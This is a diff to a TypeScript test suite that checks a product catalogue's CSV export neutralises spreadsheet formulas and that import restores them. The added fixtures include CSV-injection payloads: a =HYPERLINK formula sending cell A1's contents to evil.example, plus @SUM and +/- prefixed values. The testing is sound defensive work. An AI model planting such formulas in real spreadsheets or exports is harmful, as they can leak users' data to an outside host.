@@ -100,6 +100,23 @@ const PRODUCTS: { product: Record<string, unknown>; passports: Record<string, un
     product: { name: 'Merino jumper', category: 'textile', sku: 'MJ-01', commodityCode: '6110111000' },
     passports: [{ productType: 'textile', origin: { country: 'NZ' }, producers: [{ name: 'Knitters Ltd', role: 'manufacturer', country: 'PT' }] }],
   },
+  {
+    // Text a spreadsheet would run as a formula: the CSV export neutralises it with a quote, the import removes it again
+    product: { name: '=HYPERLINK("http://evil.example/?d="&A1,"Click")', category: 'wine', brand: '+1', sku: '-x' },
+    passports: [
+      {
+        productType: 'wine',
+        ingredients: ['@SUM(1+1)', 'grapes', '-x'],
+        origin: { country: 'FR', region: "'=already", designation: "''+twice" },
+        producers: [{ name: '@SUM(A1:A9)', role: 'producer' }],
+      },
+    ],
+  },
+  {
+    // Tabs and carriage returns at the start (stored trimmed), a quote before plain text (kept as written)
+    product: { name: '\tfoo', category: 'food', brand: '\rbar', sku: "'plain" },
+    passports: [{ productType: 'food', ingredients: ['\tfoo', "'=already"], origin: { region: '-5', designation: "'tis" } }],
+  },
 ];
 
 /** A page size smaller than the catalogue, so that export comes in several pages. */
@@ -189,6 +206,13 @@ describe('CSV export → import round trip', () => {
     expect(lines[0]).toContain(',passport.producers.4.name,passport.producers.4.role,passport.producers.4.country');
     expect(exported).toContain('"Château ""Exemple"", Cuvée Spéciale"');
     // CSV doubles the quotes inside the quoted cell
+    // Formula starts neutralised with one more quote, and quoted (docs/import-export.md#export)
+    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",wine,"'+1","'-x",`);
+    expect(exported).toContain(`"'@SUM(1+1)|grapes|-x"`);
+    expect(exported).toContain(`"''=already","'''+twice"`);
+    expect(exported).toContain(`,foo,food,bar,'plain,`);
+    expect(exported).toContain(`foo|'=already,`);
+    expect(exported).toContain(`"'-5",'tis,`);
     expect(exported).toContain('grapes|code:sulphur-dioxide|E220|Preservative: sulphites|code:tartaric-acid|{""text"":{""de"":""Eichenholzchips"",""en"":""Oak chips, \\""toasted\\""""}}|Acidity regulator (tartaric acid)');
   });
 
